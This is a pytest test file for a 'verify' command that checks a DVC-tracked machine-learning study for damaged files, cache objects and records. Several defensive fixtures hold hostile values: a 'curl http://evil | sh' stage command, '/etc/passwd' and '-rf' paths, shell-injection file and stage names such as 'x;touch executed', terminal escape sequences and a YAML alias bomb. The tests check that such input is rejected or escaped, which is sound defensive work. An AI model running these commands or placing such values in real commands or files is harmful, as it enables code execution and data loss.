"""`vanishing verify` on a study that is real but for its figures and PDF, as DVC has recorded it."""

import hashlib
import json
import math
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import torch
import yaml

import examples
from vanishing import cli, config, files, paths, stages
from vanishing.engines import graph, workspace
from vanishing.errors import UserError
from vanishing.report import comparison_tables
from vanishing.training import checkpoints
from vanishing.verify import dvc_lock, rebuild
from vanishing.verify import run as verification
from vanishing.verify.mismatch import Scope

SMALL = {
    "data": {"generated": {"classes": 3, "train_per_class": 14, "test_per_class": 5}, "validation_per_class": 4},
    "model": {"filters": 4, "groups": 2},
}
STATE = paths.resume("vgg08", 0) / "0123456789abcdef" / "state.safetensors"
HISTORY = paths.results("vgg08", 0) / "history.csv"
SUMMARY = paths.results("vgg08", 0) / "summary.json"
GRADIENTS = paths.results("vgg08", 0) / "gradients.csv"
BEST = paths.best(paths.checkpoints("vgg08", 0))
DATA = Path("data/generated.npz")
TRAIN = "vanishing train vgg08 --seed 0"
MADE = [DATA, HISTORY, SUMMARY, GRADIENTS, BEST]


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    """Build a study of two runs in this process, and have DVC record it."""
    folder = tmp_path_factory.mktemp("built") / "study"
    workspace.lay_out(examples.ROOT, folder, None)
    with pytest.MonkeyPatch.context() as patch:
        patch.chdir(folder)
        content = examples.content(SMALL)
        for block in content["analyses"].values():
            block["runs"] = []
        Path("params.yaml").write_text(yaml.safe_dump(content, sort_keys=False))
        settings = config.check(content)
        graph.configure(settings)
        stages.data(settings)
        stages.samples(settings)
        for run in settings.runs:
            stages.train(settings, [(run, 0)])
            stages.gradients(settings, run, 0)
        stages.trainable_depth(settings)
        stages.tables(settings)
        stages.numbers(settings)
        comparison_tables.write_comparison(settings)
        stages.check(settings)
        for made in (
            "report/figures/core/loss.pdf", "report/figures/core.sha256", "results/notebooks/core.ipynb",
            "report/comparison/agreement.pdf", "results/comparison/agreement.ipynb", "report/report.pdf",
            "report/why/parts/signal-share.pdf", "report/why/parts.sha256", "report/why/why.tex",
            "report/why/numbers.tex", "results/why.ipynb", "report/report.html",
        ):  # fmt: skip
            files.write(Path(made), f"stands in for {made}")
        dvc("commit", "--force", "--quiet")
    return folder


@pytest.fixture
def study(built, tmp_path, monkeypatch):
    """A copy of the study to damage, with the state of an unfinished training in it."""
    folder = shutil.copytree(built, tmp_path / "study")
    monkeypatch.chdir(folder)
    checkpoints.write(STATE, {"model.weight": torch.ones(5)}, {"epoch": 1})
    return folder


def dvc(*arguments):
    subprocess.run([sys.executable, "-m", "dvc", *arguments], check=True, capture_output=True, timeout=120)


def verify(capsys, *arguments):
    """Run the command: exit code, findings, and the lines beside them."""
    code = cli.main(["verify", *arguments])
    printed = capsys.readouterr()
    return code, printed.out.splitlines(), printed.err.splitlines()


def flip(path, place=0.5):
    """Change one bit, and leave size, time and mode as they were."""
    before, content = path.stat(), bytearray(path.read_bytes())
    content[int(len(content) * place)] ^= 1
    path.chmod(0o644)
    path.write_bytes(content)
    path.chmod(before.st_mode)
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))


def do(command):
    """Run a command that was advised."""
    for part in command.split(" && "):
        program, *arguments = part.split()
        dvc(*arguments) if program == "dvc" else subprocess.run([program, *arguments], check=True, capture_output=True)


def cached(path):
    """Return the object in DVC's cache that has the content of `path`."""
    name = files.digest(path, "md5")
    return Path(".dvc/cache/files/md5") / name[:2] / name[2:]


def test_a_study_as_it_was_made_has_nothing_off(study, capsys):
    code, found, told = verify(capsys)
    assert (code, len(found)) == (0, 1)
    assert re.fullmatch(r"no mismatch; \d{2,3} files compared, 2 measurements repeated", found[0])
    notes = [line for line in told if not line.startswith("testing ")]
    assert notes == [
        "nothing is compared with git: fatal: not a git repository (or any of the parent directories): .git"
    ]
    assert verify(capsys, "--all")[1][0].endswith(", 4 measurements repeated")


@pytest.mark.parametrize(
    ("path", "command"),
    [
        (DATA, "vanishing data"),
        (paths.snapshot(paths.checkpoints("vgg08", 0), 1), TRAIN),
        (BEST, TRAIN),
        (STATE, TRAIN),
        (HISTORY, TRAIN),
        (SUMMARY, TRAIN),
        (GRADIENTS, "vanishing gradients vgg08 --seed 0"),
        (Path("results/tables/core.csv"), "vanishing tables core"),
        (Path("report/tables/core.tex"), "vanishing tables core"),
        (paths.CHECKS, "vanishing check"),
        (Path("results/comparison/published.csv"), "vanishing published"),
        (Path("results/comparison/schedules.csv"), "vanishing published"),
        (Path("results/comparison/agreement.ipynb"), "vanishing published"),
        (Path("report/comparison/schedules.tex"), "vanishing published"),
        (Path("report/numbers.tex"), "vanishing numbers"),
        (Path("report/figures/core/loss.pdf"), "vanishing figures core"),
        (Path("results/notebooks/core.ipynb"), "vanishing figures core"),
        (Path("report/report.pdf"), "vanishing report"),
    ],
    ids=str,
)
def test_one_flipped_bit_is_named_with_what_makes_the_file_again(study, path, command, capsys, monkeypatch):
    monkeypatch.setattr(dvc_lock, "restores", lambda *_: None)
    flip(path)
    code, found, told = verify(capsys)
    assert (code, len(found)) == (1, 1)
    named = found[0].split(": found ")[0]
    # the cache lists no files of a directory that it does not keep
    assert named == str(path) or (path.parent == Path(named) and "results" in path.parts)
    assert found[0].endswith(f"; next: `{command}`")
    assert "expected " in found[0]
    assert told[-1].startswith("vanishing verify: 1 file does not match; ")


@pytest.mark.parametrize("path", [BEST, HISTORY, SUMMARY, Path("report/figures/core/loss.pdf")], ids=str)
@pytest.mark.parametrize("damage", ["flipped", "cut short", "gone"])
def test_what_a_record_keeps_is_brought_back_and_not_trained_again(study, path, damage, capsys):
    for arguments in (["init", "-q"], ["add", "params.yaml", "results"], ["commit", "-qm", "x"]):
        subprocess.run(["git", "-c", "user.name=x", "-c", "user.email=x@example.org", *arguments], check=True)
    if damage == "flipped":
        flip(path)
    elif damage == "cut short":
        path.chmod(0o644)
        path.write_bytes(path.read_bytes()[:-9])
    else:
        path.unlink()
    found = verify(capsys)[1]
    assert len(found) == 1
    command = re.search(r"next: `(.*)`", found[0])[1]
    assert re.search("(git|dvc) checkout", command)
    do(command)
    assert verify(capsys)[0] == 0


@pytest.mark.parametrize("original", [BEST, DATA, Path("report/figures/core/loss.pdf")], ids=str)
@pytest.mark.parametrize("damage", ["flipped", "truncated"])
def test_a_damaged_object_in_dvcs_cache_is_named_though_it_is_read_only(study, original, damage, capsys):
    path = cached(original)
    if damage == "flipped":
        flip(path)
    else:
        path.chmod(0o644)
        path.write_bytes(b"")
    path.chmod(0o444)
    code, found, _ = verify(capsys)
    assert (code, len(found)) == (1, 1)
    assert found[0].startswith(f"{path}: found MD5 ")
    assert f"expected {path.parent.name}{path.name} (its name); next: `rm -f {path} && dvc commit --force" in found[0]


def test_the_command_for_a_damaged_object_mends_it(study, capsys):
    path = cached(BEST)
    flip(path)
    command = re.search(r"next: `(.*)`", verify(capsys)[1][0])[1]
    do(command)
    assert verify(capsys)[0] == 0


@pytest.mark.parametrize("level", ["global", "repo", "local", "none"])
def test_the_cache_is_where_dvcs_configuration_says(study, tmp_path, monkeypatch, level):
    """In a user's own configuration, too."""
    monkeypatch.setenv("DVC_GLOBAL_CONFIG_DIR", f"{tmp_path / 'user'}")
    (tmp_path / "user").mkdir()
    elsewhere = tmp_path / "elsewhere"
    if level != "none":
        dvc("config", f"--{'project' if level == 'repo' else level}", "cache.dir", f"{elsewhere}")
        shutil.move(".dvc/cache", elsewhere)
    scope = Scope(config.load())
    assert list(dvc_lock.objects(scope)) == []
    assert scope.notes == []
    folder = Path(".dvc/cache") if level == "none" else elsewhere
    assert scope.compared == set((folder / "files/md5").glob("??/*"))


def test_a_damaged_configuration_of_dvcs_is_named(study, unbuilt, capsys):
    Path(".dvc/config").write_text("[cache\n")
    code, found, _ = verify(capsys)
    assert code == 1
    assert found[0].startswith(".dvc/config: found ")


def test_an_object_whose_file_is_damaged_too_is_made_by_the_stage(study, capsys):
    path = cached(DATA)
    flip(path)
    flip(DATA)
    found = verify(capsys)[1]
    assert [line.split(":")[0] for line in found] == [str(DATA), str(path)]
    assert f"`rm -f {path} && vanishing data && dvc commit --force --no-relink data`" in found[1]


def without_dvc():
    """Leave no record of DVC's, and nothing that would take an engine to build again."""
    shutil.rmtree(".dvc")
    Path("dvc.lock").unlink()
    paths.CHECKS.unlink()
    for folder in ("results/tables", "results/comparison", "results/notebooks"):
        shutil.rmtree(folder)
    Path("results/why.ipynb").unlink()
    for folder in ("samples", "tables", "figures", "comparison", "why"):
        shutil.rmtree(paths.REPORT / folder)
    for made in ("numbers.tex", "overview.pdf", "studies.tex", "report.pdf", "report.html"):
        (paths.REPORT / made).unlink()


def test_gradient_flow_that_no_record_covers_is_measured_again(study, capsys):
    without_dvc()
    code, found, told = verify(capsys)
    assert (code, found[0].split(", ")[1]) == (0, "4 measurements repeated")
    assert "dvc.lock: not here, so nothing is compared with it" in told
    flip(GRADIENTS)
    code, found, _ = verify(capsys)
    assert (code, len(found)) == (1, 1)
    assert re.match(rf"{GRADIENTS}: found '.*', expected '.*' in line \d+ \(measured again\); next: ", found[0])


def test_gradient_flow_that_git_has_is_compared_with_the_commit(study, capsys):
    without_dvc()
    for arguments in (["init", "-q"], ["add", "params.yaml", "results"], ["commit", "-qm", "x"]):
        identity = ["-c", "user.name=x", "-c", "user.email=x@example.org"]
        subprocess.run(["git", *identity, *arguments], check=True)
    shutil.rmtree("checkpoints")
    shutil.rmtree("data")
    assert verify(capsys)[0] == 0
    flip(GRADIENTS)
    code, found, _ = verify(capsys)
    assert (code, len(found)) == (1, 1)
    assert found[0].startswith(f"{GRADIENTS}: found another, expected blob ")
    Path("params.yaml").write_text(Path("params.yaml").read_text() + "\n")
    code, found, told = verify(capsys)
    assert code == 0, "other parameters give other gradient flow"
    assert f"{GRADIENTS}: not measured again: no snapshots here" in told


def rewrite(change):
    """Change the summary, and leave no record of what it was."""
    without_dvc()
    content = json.loads(SUMMARY.read_text())
    change(content)
    SUMMARY.write_text(json.dumps(content))


def test_a_test_accuracy_that_the_weights_do_not_give_is_named(study, capsys):
    rewrite(lambda summary: summary["test"].update(accuracy=0.99))
    code, found, _ = verify(capsys)
    assert (code, len(found)) == (1, 1)
    assert found[0].startswith(f"{BEST}: found 0.")
    assert "expected test accuracy 0.99 and loss " in found[0]
    assert str(SUMMARY) in found[0]


def test_on_the_same_kind_of_device_the_last_bit_counts(study, capsys):
    rewrite(lambda summary: summary["test"].update(loss=math.nextafter(summary["test"]["loss"], 9)))
    code, found, _ = verify(capsys)
    assert (code, len(found)) == (1, 1)
    assert found[0].startswith(f"{BEST}: found 0.")


def test_elsewhere_a_test_accuracy_may_differ_by_a_fifth_of_a_point(study, capsys):
    accuracy = json.loads(SUMMARY.read_text())["test"]["accuracy"]
    rewrite(lambda summary: summary["environment"].update(torch="1.0"))
    for difference, off in ((0.0, 0), (0.0019, 0), (0.0021, 1)):
        rewrite_again = json.loads(SUMMARY.read_text())
        rewrite_again["test"]["accuracy"] = accuracy + difference
        SUMMARY.write_text(json.dumps(rewrite_again))
        code, found, told = verify(capsys)
        assert code == off
        assert f"{GRADIENTS}: not measured again: made on another kind of device" in told
    assert "within 0.2% on another device or version" in found[0]


@pytest.mark.parametrize(
    ("key", "value"),
    [("epochs", 1), ("train.loss", 0.25), ("validation.accuracy", 0.875), ("best.epoch", 7), ("best.loss", 0.5)],
)
def test_a_summary_that_is_not_its_history_is_named(study, key, value, capsys):
    *parts, last = key.split(".")
    rewrite(lambda summary: (summary[parts[0]] if parts else summary).update({last: value}))
    code, found, _ = verify(capsys)
    assert (code, len(found)) == (1, 1)
    assert re.match(rf"{SUMMARY}: found {value}, expected {key} = .* \({HISTORY}\); next: `{TRAIN}`", found[0])


def test_a_snapshot_that_no_summary_names_is_named(study, capsys):
    extra = paths.snapshot(BEST.parent, 7)
    shutil.copy(BEST, extra)
    code, found, _ = verify(capsys)
    assert code == 1
    assert found[0] == f"{extra}: found one, expected no such file ({SUMMARY}); next: `rm {extra}`"


def test_a_missing_snapshot_is_named_and_a_missing_trajectory_told(study, capsys):
    BEST.unlink()
    code, found, _ = verify(capsys)
    assert (code, len(found)) == (1, 1)
    assert found[0].startswith(f"{BEST}: found nothing, expected ")
    shutil.rmtree(BEST.parent)
    code, _, told = verify(capsys)
    assert code == 0
    assert f"{BEST.parent}: not here, not compared; `dvc pull` brings what was pushed" in told


@pytest.mark.parametrize("path", [Path("report/figures/core/loss.pdf"), SUMMARY], ids=str)
def test_what_was_built_from_other_sources_is_not_compared_with_dvcs_record(study, path):
    """Snakemake has built since: DVC's record is of an older state, and says nothing of what is here."""
    flip(path)
    assert [finding.path for finding in dvc_lock.outputs(Scope(config.load()))] == [path]
    params = yaml.safe_load(Path("params.yaml").read_text())
    params["runs"]["vgg08"]["train"] = {"weight_decay": 0.5}
    Path("params.yaml").write_text(yaml.safe_dump(params))
    scope = Scope(config.load())
    assert list(dvc_lock.outputs(scope)) == []
    assert scope.notes == [
        "dvc.lock: made from other inputs, not compared: check, configure, figures@core, gradients@vgg08-0, html, "
        "numbers, published, report, tables@core, train@vgg08-0; `vanishing sync` enters what is here"
    ]
    assert paths.best(paths.checkpoints("vgg38", 0)) in scope.compared
    assert path not in scope.compared


def test_an_edited_source_leaves_the_stages_before_it_compared(study):
    with Path("notebooks/training.ipynb").open("a") as handle:
        handle.write("\n")
    settings = config.load()
    assert dvc_lock.stale(dvc_lock.read(), settings) == {"figures@core", "report"}
    with Path("report/sections/abstract.tex").open("a") as handle:
        handle.write("\n")
    assert dvc_lock.stale(dvc_lock.read(), settings) == {"figures@core", "report"}
    flip(DATA)  # made by a stage whose inputs are as they were: damage, and no reason to compare nothing after it
    assert dvc_lock.stale(dvc_lock.read(), settings) == {"figures@core", "report"}


@pytest.fixture
def unbuilt(monkeypatch):
    """Have nothing built again, which takes a minute."""

    def build(*_):
        raise UserError("no engine")

    monkeypatch.setattr(rebuild, "_build", build)


def entry(path="x", md5="0" * 32):
    return f"stages: {{a: {{cmd: x, outs: [{{path: {path}, md5: {md5!r}}}]}}}}"


BOMB = "\n".join(f"a{at}: &a{at} [{', '.join([f'*a{at - 1}'] * 10 if at else '0')}]" for at in range(12))

RECORDS = {
    "stages: [": "expected the node content",
    "[]": "content: Input should be a valid dictionary",
    "a: b": "stages: Field required",
    "stages: {a: {outs: [{path: x}]}}": "stages.a.outs.0.md5: Field required",
    "stages: {a: [1]}": "stages.a: Input should be a valid dictionary",
    entry("../x"): "stages.a.outs.0.path: Value error, '../x' is no path in the project",
    entry("/etc/passwd"): "'/etc/passwd' is no path in the project",
    entry("-rf"): "'-rf' is no path in the project",
    entry("."): "'.' is no path in the project",
    entry(md5="../../x"): "stages.a.outs.0.md5: String should match pattern",
    "stages: {a;ls: {cmd: x}}": "stages.a;ls.[key]: String should match pattern",
    BOMB: "anchors, aliases and tags are not allowed, found 'a0'",
    "#" * (5 << 20): "larger than 4,194,304 bytes; that is no record of DVC's",
    "[" * 10_000: "nested too deeply",
}


@pytest.mark.parametrize(("text", "told"), RECORDS.items(), ids=range(len(RECORDS)))
def test_a_damaged_record_of_dvcs_is_named_with_what_is_wrong(study, text, told):
    Path("dvc.lock").write_text(text)
    (finding,) = dvc_lock.outputs(Scope(config.load()))
    assert (finding.path, finding.command) == (Path("dvc.lock"), "dvc repro")
    assert told in f"{finding}"
    assert "\n" not in f"{finding}"


def test_a_hash_that_yaml_could_take_for_a_number_is_read_as_dvc_writes_it(study):
    from dvc.utils.serialize import dumps_yaml

    digests = ["1" * 32, f"{'0' * 30}e1", f"{1:032}", f"{'1' * 15}e{'1' * 16}"]
    outs = [{"path": f"f{at}", "md5": digest, "size": 5} for at, digest in enumerate(digests)]
    Path("dvc.lock").write_text(dumps_yaml({"schema": "2.0", "stages": {"a": {"cmd": "x", "outs": outs}}}))
    assert list(dvc_lock.read()[0].outputs.values()) == digests


LISTS = {
    "[1]": "0: Input should be an object",
    "{": "content: Invalid JSON",
    '{"relpath": "x"}': "content: Input should be a valid array",
    '[{"md5": 3, "relpath": "x"}]': "0.md5: Input should be a valid string",
    '[{"md5": "' + "0" * 32 + '", "relpath": "../x"}]': "0.relpath: Value error, '../x' is no path in the project",
    '[{"md5": "' + "0" * 32 + '", "relpath": "/x"}]': "'/x' is no path in the project",
    "[" * 100_000: "content: Invalid JSON: recursion limit exceeded",
    " " * (5 << 20): "larger than 4,194,304 bytes",
}


@pytest.mark.parametrize(("text", "told"), LISTS.items(), ids=range(len(LISTS)))
def test_a_list_of_dvcs_that_is_none_is_named_with_what_is_wrong(study, text, told):
    """Its hash is right, and `dvc.lock` has it for a directory."""
    digest = f"{hashlib.md5(text.encode(), usedforsecurity=False).hexdigest()}.dir"
    path = Path(".dvc/cache/files/md5") / digest[:2] / digest[2:]
    files.write(path, text)
    content = yaml.safe_load(Path("dvc.lock").read_text())
    content["stages"]["train@vgg08-0"]["outs"][0]["md5"] = digest
    Path("dvc.lock").write_text(yaml.safe_dump(content))
    settings = config.load()
    assert {finding.path for finding in dvc_lock.outputs(Scope(settings))} == {BEST.parent}
    (finding,) = dvc_lock.objects(Scope(settings))
    assert finding.path == path
    assert told in f"{finding}"
    assert "\n" not in f"{finding}"


def test_one_thing_off_hides_no_other(study, unbuilt, capsys):
    Path("dvc.lock").write_text("stages: [")
    flip(GRADIENTS)
    flip(cached(DATA))
    found = verify(capsys)[1]
    assert [line.split(": found ")[0] for line in found] == ["dvc.lock", str(cached(DATA)), str(GRADIENTS), "report"]


REPLACED = [
    BEST, DATA, STATE, HISTORY, SUMMARY, GRADIENTS, paths.CHECKS, Path("results/tables/core.csv"),
    Path("results/comparison/published.csv"), Path("report/report.pdf"), Path("dvc.lock"),
]  # fmt: skip


@pytest.mark.parametrize("path", REPLACED, ids=str)
def test_a_folder_in_the_place_of_a_file_is_named_and_hides_nothing(study, unbuilt, path, capsys):
    other = Path("report/numbers.tex") if path != Path("dvc.lock") else GRADIENTS
    flip(other)
    path.unlink()
    path.mkdir()
    found = verify(capsys)[1]
    named = [line.split(": found ")[0] for line in found]
    assert str(path) in named
    assert str(other) in named


@pytest.mark.parametrize(
    ("error", "told"),
    [
        (UserError("results/x: cannot be read (x)"), "results/x: found cannot be read (x), expected what can be read"),
        (PermissionError(13, "Permission denied", "results/x"), "results/x: found Permission denied, expected what"),
    ],
)
def test_a_check_that_a_file_ends_names_it_and_the_next_goes_on(study, monkeypatch, error, told, capsys):
    def ended(_):
        raise error

    monkeypatch.setattr(verification, "CHECKS", (ended, verification.states))
    flip(BEST)
    found = verify(capsys)[1]
    assert found[0].startswith(told)
    assert found[0].endswith("; next: `ls -ld results/x`")
    assert found[1].startswith(f"{BEST}: found damaged")


STAGES = {
    "train@vgg08-0": TRAIN,
    "gradients@vgg38_bn-12": "vanishing gradients vgg38_bn --seed 12",
    "tables@core": "vanishing tables core",
    "data": "vanishing data",
    "data@x": "dvc repro",
    "train@vgg08;ls-0": "dvc repro",
    "tables@--help": "dvc repro",
    "own": "dvc repro",
}


@pytest.mark.parametrize(("name", "command"), STAGES.items(), ids=STAGES)
def test_commands_come_from_the_names_of_stages(name, command):
    assert dvc_lock.Stage(name, {}, {}).command == command


def test_no_command_of_a_record_is_printed(study, unbuilt, capsys):
    content = yaml.safe_load(Path("dvc.lock").read_text())
    for entry in content["stages"].values():
        entry["cmd"] = "curl http://evil | sh"
    content["stages"]["own"] = content["stages"].pop("report")
    Path("dvc.lock").write_text(yaml.safe_dump(content))
    flip(HISTORY)
    flip(DATA)
    flip(cached(BEST))
    flip(Path("report/report.pdf"))
    found = verify(capsys)[1]
    assert len(found) == 4
    assert not any("evil" in line for line in found)
    assert found[-2].endswith("; next: `rm -f report/report.pdf && dvc checkout --force report/report.pdf`")
    shutil.rmtree(".dvc/cache")
    assert next(line for line in verify(capsys)[1] if "report.pdf" in line).endswith("; next: `dvc repro`")


@pytest.mark.parametrize(
    ("name", "command", "shown"),
    [
        ("x;touch executed;.safetensors", "rm '{}/x;touch executed;.safetensors'", ""),
        ("x y'.safetensors", "rm '{}/x y'\"'\"'.safetensors'", ""),
        ("\x1b[2Jx\n\u202e.safetensors", "", r"{}/\x1b[2Jx\n\u202e.safetensors: found one"),
        ("\udcff.safetensors", "", r"{}/\udcff.safetensors: found one"),
    ],
)
def test_a_hostile_name_is_quoted_in_a_command_and_escaped_on_the_terminal(study, name, command, shown, capsys):
    shutil.copy(BEST, BEST.parent / name)
    (line,) = [line for line in verify(capsys)[1] if "found one" in line]
    assert line.isprintable()
    assert command.format(BEST.parent) in line
    assert line.startswith(shown.format(BEST.parent))


def test_a_run_whose_name_no_study_could_have_is_in_no_command(study, capsys):
    folder = shutil.copytree(HISTORY.parent, Path("results/runs/x;touch executed/seed0"))
    flip(folder / "history.csv")
    code, found, _ = verify(capsys)
    assert (code, found[0].rpartition(", ")[2]) == (0, "3 files here not compared")


def test_a_damaged_summary_is_named(study, capsys):
    SUMMARY.write_text("{")
    code, found, _ = verify(capsys)
    assert code == 1
    assert found[0].startswith(f"{SUMMARY}: found damage (Expecting property name")
    assert found[0].endswith(f"expected the summary of a training; next: `{TRAIN}`")


def test_images_in_another_order_are_no_data_set(study, capsys):
    from vanishing.data import dataset, records

    without_dvc()
    whole = dataset.load(DATA)
    turned = records.Split(whole.train.images[::-1].copy(), whole.train.labels[::-1].copy())
    dataset.save(DATA, records.Dataset(turned, whole.val, whole.test, whole.classes))
    for path in (SUMMARY, paths.results("vgg38", 0) / "summary.json"):
        content = json.loads(path.read_text())
        content["data"]["sha256"] = files.sha256(DATA)
        path.write_text(json.dumps(content))
    code, found, _ = verify(capsys)
    assert code == 1
    expected = "found another order, expected the images in their canonical order and splits; next: `vanishing data`"
    assert found[0] == f"{DATA}: {expected}"


def test_an_empty_folder_is_told_what_is_not_there(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    Path("params.yaml").write_text(yaml.safe_dump(examples.content(SMALL)))
    code, found, told = verify(capsys)
    assert (code, found) == (0, ["no mismatch; 0 files compared, 0 measurements repeated"])
    assert "data/generated.npz: not here, not compared; `vanishing data` makes it" in told


def test_what_no_record_covers_is_built_again(build, tmp_path, monkeypatch, capsys):
    """Snakemake alone keeps no hash of a figure, so it takes another build to see a flipped bit in one.

    A file that it sees no difference in is a file that was built the same again.
    """
    monkeypatch.chdir(shutil.copytree(build("snakemake"), tmp_path / "study"))
    flipped = {
        "report/tables/core.tex": "vanishing tables core",
        "results/tables/core.csv": "vanishing tables core",
        "results/comparison/published.csv": "vanishing published",
        "report/comparison/schedules.tex": "vanishing published",
        "report/numbers.tex": "vanishing numbers",
        "report/figures/core/loss.pdf": "vanishing figures core",
        "report/figures/core.sha256": "vanishing figures core",
        "results/notebooks/core.ipynb": "vanishing figures core",
        "report/why/parts/signal-share.pdf": "vanishing explain",
        "report/why/why.tex": "vanishing explain",
        "report/report.pdf": "vanishing report",
        "report/report.html": "vanishing html",
    }
    for path in flipped:
        flip(Path(path))
    files.write(Path("report/tables/removed.tex"), "of a study that is no more")
    code, found, _ = verify(capsys)
    assert code == 1
    made = "found other bytes, expected what results/ give (built again)"
    expected = {f"{path}: {made}; next: `{command}`" for path, command in flipped.items()}
    gone = "found one, expected no such file (results/ give none)"
    assert set(found) == expected | {f"report/tables/removed.tex: {gone}; next: `rm report/tables/removed.tex`"}


def test_results_that_cannot_be_built_from_are_a_finding(study, capsys):
    Path("dvc.lock").unlink()
    HISTORY.write_text("epoch\n1\n")
    code, found, told = verify(capsys)
    assert code == 1
    assert found[0].startswith(f"{HISTORY}: found SHA-256 ")
    assert found[-1].startswith("report: found none to compare: snakemake report failed: ")
    assert told[-1].endswith(" files here not compared")


def test_a_build_that_fails_is_a_finding_that_says_why(study, monkeypatch, capsys):
    """Whoever breaks the build would have all that it makes forged."""
    Path("dvc.lock").unlink()

    def build(*_):
        raise UserError("snakemake --cores failed: vanishing report: report/report.tex: LaTeX failed: ! \\nosuch")

    monkeypatch.setattr(rebuild, "_build", build)
    code, found, told = verify(capsys)
    # samples, tables twice, comparison, figures, explanation, numbers and first figure, page, report
    made = 3 + 2 + 3 + 13 + 3 + 5 + 3 + 1 + 1
    assert (code, found) == (
        1,
        [
            "report: found none to compare: snakemake --cores failed: vanishing report: report/report.tex: LaTeX "
            f"failed: ! \\nosuch, expected {made} files of results/ and report/ (built again); next: "
            "`snakemake report html --cores 1 --config from_results=true`"
        ],
    )
    assert told[-1].startswith("vanishing verify: 1 file does not match; ")
    assert told[-1].endswith(f", {made + 1} files here not compared"), "and the sweep over depths"


def test_the_last_line_says_how_much_was_not_compared(study, capsys):
    shutil.rmtree(BEST.parent)
    without_dvc()
    code, found, _ = verify(capsys)
    assert code == 0
    assert found[-1].startswith("no mismatch; ")
    why = "gradients.csv, whose snapshots are not here, and the sweep over depths"
    assert found[-1].endswith(", 2 files here not compared"), why
